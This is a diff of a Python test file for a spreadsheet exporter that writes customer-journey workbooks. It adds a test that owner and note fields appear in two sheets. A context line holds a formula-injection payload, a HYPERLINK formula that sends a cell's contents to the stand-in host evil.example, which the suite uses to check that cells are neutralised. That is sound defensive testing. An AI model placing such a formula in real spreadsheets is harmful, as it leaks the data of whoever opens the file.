@@ -48,6 +48,20 @@ def test_no_cell_is_a_formula_or_a_link(book: bytes) -> None:
     assert '=HYPERLINK("http://evil.example/?x="&A1,"Click me")' in quotes
 
 
+def test_owner_and_note_stand_with_the_finding() -> None:
+    """In the sheets of findings, and beside the effort in the sheet of quadrants."""
+    journey, rows = sample(800)
+    owned = tuple(
+        replace(v, pain_points=tuple(replace(f, owner="Ada", note="=1+1") for f in v.pain_points))
+        for v in journey.stages
+    )
+    told = workbook.xlsx(replace(journey, stages=owned), rows, n_evidence_total=len(rows))
+    for sheet in ("Pain points", "Impact x effort"):
+        _, head, *lines = rows_of(told, sheet)
+        pairs = {(line[head.index("Owner")], line[head.index("Note")]) for line in lines}
+        assert ("Ada", "=1+1") in pairs, sheet
+
+
 def test_stages_reconcile_with_the_map(book: bytes) -> None:
     """People, mentions and net sentiment of every stage stand there as numbers."""
     journey, _ = sample(800)
